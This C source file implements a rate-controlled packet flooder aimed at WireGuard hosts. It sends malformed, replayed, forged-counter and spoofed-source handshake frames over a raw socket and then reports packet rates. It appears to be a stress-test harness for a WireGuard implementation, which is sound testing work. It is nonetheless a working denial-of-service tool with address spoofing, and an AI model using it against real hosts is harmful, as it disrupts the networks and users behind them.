// SPDX-License-Identifier: MIT
/*
 * Floods a WireGuard host with packets of one kind.
 *
 *   attack KIND IFNAME MAC ADDRESS PORT RATE [PUBLIC_KEY | CAPTURE]
 *
 * Writes frames to the device IFNAME, addressed to the IPv4 host with this MAC, ADDRESS and listen
 * PORT, RATE per second (0: as fast as possible), until SIGTERM. Then prints name=value lines.
 *
 *   port        UDP to the port after PORT
 *   random      random bytes
 *   mac1        initiations with a wrong mac1
 *   initiation  initiations with the mac1 for PUBLIC_KEY and random contents, each from
 *               another address of 198.18.0.0/15
 *   replay      the UDP payload of the frame in CAPTURE, a pcap file
 *   index       data messages with random receiver indices
 *   tag         data messages with the addresses, ports and index of the one in CAPTURE,
 *               counters far ahead of it, and random contents
 *
 * Except for initiation and tag, the source is the device's address with random ports.
 *
 * Theory of operation: all frames are made before the first one is sent, and are then sent in turn,
 * because making a frame costs more than sending it. Only the source of an initiation is new each
 * time. If the program falls behind its rate by more than BEHIND_NS, it does not catch up, because
 * such a burst would fill queues that the rate itself does not.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <sodium.h>

#include "clock.h"
#include "cookie.h"
#include "wg_proto.h"

#define FRAMES	    4096 /* a multiple of BATCH */
#define BATCH	    64
#define BEHIND_NS   (5 * NS_PER_MS)
#define PAYLOAD_MAX sizeof(struct wg_initiation)
/* About as long as an initiation. The payload is a multiple of 16 bytes, as in data messages. */
#define DATA_LEN     (WG_DATA_OVERHEAD + 112)
#define SPOOFED_NET  0xc6120000U /* 198.18.0.0/15 */
#define SPOOFED_MASK 0x1ffffU
#define AHEAD	     (1ULL << 40)
/* Length of the headers of a pcap file and of its first record. */
#define PCAP_HEADERS 40

struct frame {
	struct ether_header ether;
	struct iphdr ip;
	struct udphdr udp;
	uint8_t payload[PAYLOAD_MAX];
} __attribute__((packed));

#define HEADERS offsetof(struct frame, payload)

struct attack {
	int fd;
	struct frame *frames;
	struct mmsghdr messages[FRAMES];
	struct iovec iov[FRAMES];
	struct frame captured;
	struct cookie_maker maker; /* has no cookie */
	uint16_t port;
	bool spoof;
	uint64_t sent, refused;
};

static volatile sig_atomic_t ended;

static void on_term(int signal)
{
	ended = 1;
}

static void die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, errno ? strerror(errno) : "no");
	exit(1);
}

/* --- frames --- */

static void put_checksum(struct frame *f)
{
	uint16_t words[sizeof(f->ip) / 2];
	uint32_t sum = 0;

	f->ip.check = 0;
	memcpy(words, &f->ip, sizeof(words));
	for (unsigned i = 0; i < sizeof(f->ip) / 2; i++)
		sum += words[i];
	sum = (sum & 0xffff) + (sum >> 16);
	f->ip.check = (uint16_t) ~(sum + (sum >> 16));
}

/* IPv4 needs no UDP checksum. */
static void put_lengths(struct frame *f, size_t payload)
{
	f->udp.len = htons((uint16_t)(sizeof(f->udp) + payload));
	f->ip.tot_len = htons((uint16_t)(sizeof(f->ip) + sizeof(f->udp) + payload));
	put_checksum(f);
}

/* Each of these fills in the payload of a frame and returns its length. */

static size_t make_port(struct attack *a, struct frame *f)
{
	f->udp.dest = htons((uint16_t)(a->port + 1));
	return PAYLOAD_MAX;
}

static size_t make_random(struct attack *a, struct frame *f)
{
	return PAYLOAD_MAX;
}

static size_t make_mac1(struct attack *a, struct frame *f)
{
	((struct wg_initiation *)f->payload)->type = htole32(WG_INITIATION);
	return sizeof(struct wg_initiation);
}

static size_t make_initiation(struct attack *a, struct frame *f)
{
	a->spoof = true;
	make_mac1(a, f);
	cookie_maker_add_macs(&a->maker, f->payload, sizeof(struct wg_initiation), 0);
	return sizeof(struct wg_initiation);
}

static size_t make_replay(struct attack *a, struct frame *f)
{
	memcpy(f->payload, a->captured.payload, PAYLOAD_MAX);
	return PAYLOAD_MAX;
}

static size_t make_index(struct attack *a, struct frame *f)
{
	((struct wg_data *)f->payload)->type = htole32(WG_DATA);
	return DATA_LEN;
}

static size_t make_tag(struct attack *a, struct frame *f)
{
	const struct wg_data *seen = (const struct wg_data *)a->captured.payload;
	struct wg_data *d = (struct wg_data *)f->payload;

	f->ip.saddr = a->captured.ip.saddr;
	f->udp.source = a->captured.udp.source;
	d->type = seen->type;
	d->receiver = seen->receiver;
	d->counter = htole64(le64toh(seen->counter) + AHEAD + randombytes_random());
	return DATA_LEN;
}

static const struct kind {
	const char *name;
	size_t (*make)(struct attack *a, struct frame *f);
	bool takes_key;
	uint32_t captured; /* type of the message in CAPTURE; 0: it takes none */
} kinds[] = {
	{"port", make_port, false, 0},
	{"random", make_random, false, 0},
	{"mac1", make_mac1, false, 0},
	{"initiation", make_initiation, true, 0},
	{"replay", make_replay, false, WG_INITIATION},
	{"index", make_index, false, 0},
	{"tag", make_tag, false, WG_DATA},
};

static const struct kind *find_kind(const char *name)
{
	for (unsigned i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (!strcmp(kinds[i].name, name))
			return &kinds[i];
	return NULL;
}

static void make_frames(struct attack *a, const struct kind *k, const struct frame *like)
{
	a->frames = calloc(FRAMES, sizeof(*a->frames));
	if (!a->frames)
		die("memory");
	for (unsigned i = 0; i < FRAMES; i++) {
		struct frame *f = &a->frames[i];
		size_t len;

		*f = *like;
		f->udp.source = htons((uint16_t)(1024 + randombytes_uniform(60000)));
		randombytes_buf(f->payload, sizeof(f->payload));
		len = k->make(a, f);
		put_lengths(f, len);
		a->iov[i] = (struct iovec){f, HEADERS + len};
		a->messages[i].msg_hdr =
			(struct msghdr){.msg_iov = &a->iov[i], .msg_iovlen = 1};
	}
}

/* --- the command line --- */

/* Reads the first frame of a pcap file. It must have a message of this type. */
static void read_capture(struct attack *a, const char *path, uint32_t type)
{
	uint8_t file[PCAP_HEADERS + sizeof(a->captured)];
	FILE *f = fopen(path, "re");
	size_t n;

	if (!f)
		die(path);
	n = fread(file, 1, sizeof(file), f);
	fclose(f);
	if (n > PCAP_HEADERS)
		memcpy(&a->captured, file + PCAP_HEADERS, n - PCAP_HEADERS);
	errno = 0;
	if (n < PCAP_HEADERS + HEADERS + WG_DATA_OVERHEAD || a->captured.ip.ihl != 5 ||
	    le32toh(((const struct wg_data *)a->captured.payload)->type) != type)
		die(path);
}

static void read_key(struct attack *a, const char *text)
{
	uint8_t key[WG_KEY_LEN];
	size_t len;

	errno = 0;
	if (sodium_base642bin(key, WG_KEY_LEN, text, strlen(text), NULL, &len, NULL,
			      sodium_base64_VARIANT_ORIGINAL) ||
	    len != WG_KEY_LEN)
		die(text);
	cookie_maker_init(&a->maker, key);
}

/* Fills in what all frames have in common. */
static void make_headers(struct attack *a, char **argv, struct frame *f)
{
	struct ether_addr *mac = ether_aton(argv[1]);
	struct ifreq ifr = {0};

	*f = (struct frame){
		.ether.ether_type = htons(ETHERTYPE_IP),
		.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP},
		.udp.dest = htons(a->port),
	};
	if (!mac || inet_pton(AF_INET, argv[2], &f->ip.daddr) != 1)
		die("address");
	memcpy(f->ether.ether_dhost, mac, ETH_ALEN);
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[0]);
	if (ioctl(a->fd, SIOCGIFHWADDR, &ifr))
		die(argv[0]);
	memcpy(f->ether.ether_shost, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
}

/* Sets the source to the device's IPv4 address. An AF_PACKET socket cannot tell it. */
static void put_own_address(const char *ifname, struct frame *f)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct ifreq ifr = {0};

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (fd < 0 || ioctl(fd, SIOCGIFADDR, &ifr))
		die(ifname);
	f->ip.saddr = ((const struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
	close(fd);
}

static int open_device(const char *ifname)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(ifname)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), yes = 1;

	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)))
		die(ifname);
	return fd;
}

/* --- sending --- */

static void spoof_sources(struct attack *a, unsigned first, unsigned n)
{
	static uint32_t seed = 1;

	for (unsigned i = first; i < first + n; i++) {
		seed = seed * 1664525U + 1013904223U;
		a->frames[i].ip.saddr = htonl(SPOOFED_NET | (seed >> 8 & SPOOFED_MASK));
		put_checksum(&a->frames[i]);
	}
}

static void send_some(struct attack *a, unsigned first, unsigned n)
{
	int sent;

	if (a->spoof)
		spoof_sources(a, first, n);
	sent = sendmmsg(a->fd, a->messages + first, n, 0);
	if (sent > 0)
		a->sent += (unsigned)sent;
	else
		a->refused++;
}

static void sleep_until(uint64_t when)
{
	struct timespec t = {.tv_sec = (time_t)(when / NS_PER_SEC),
			     .tv_nsec = (long)(when % NS_PER_SEC)};

	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

/* Sends at most the packets of one millisecond at once. */
static void run(struct attack *a, uint64_t rate)
{
	uint64_t due = clock_now(), now;
	unsigned n = rate && rate / 1000 < BATCH ? (unsigned)(rate / 1000) : BATCH;

	n = n ? n : 1;
	for (unsigned i = 0; !ended; i = (i + BATCH) % FRAMES) {
		send_some(a, i, n);
		if (!rate)
			continue;
		due += n * NS_PER_SEC / rate;
		now = clock_now();
		if (due + BEHIND_NS < now)
			due = now;
		if (due > now)
			sleep_until(due);
	}
}

int main(int argc, char **argv)
{
	const struct kind *k = argc >= 7 ? find_kind(argv[1]) : NULL;
	static struct attack a;
	struct frame like;
	uint64_t began;

	if (!k || argc != 7 + (k->takes_key || k->captured)) {
		fputs("usage: attack KIND IFNAME MAC ADDRESS PORT RATE [PUBLIC_KEY | "
		      "CAPTURE]\n",
		      stderr);
		return 2;
	}
	if (sodium_init() < 0)
		die("libsodium");
	signal(SIGTERM, on_term);
	a.port = (uint16_t)atoi(argv[5]);
	a.fd = open_device(argv[2]);
	make_headers(&a, argv + 2, &like);
	put_own_address(argv[2], &like);
	if (k->takes_key)
		read_key(&a, argv[7]);
	if (k->captured)
		read_capture(&a, argv[7], k->captured);
	make_frames(&a, k, &like);
	began = clock_now();
	run(&a, strtoull(argv[6], NULL, 10));
	printf("sent=%llu\nrefused=%llu\npps=%.0f\n", (unsigned long long)a.sent,
	       (unsigned long long)a.refused,
	       (double)a.sent * NS_PER_SEC / (double)(clock_now() - began));
	return 0;
}
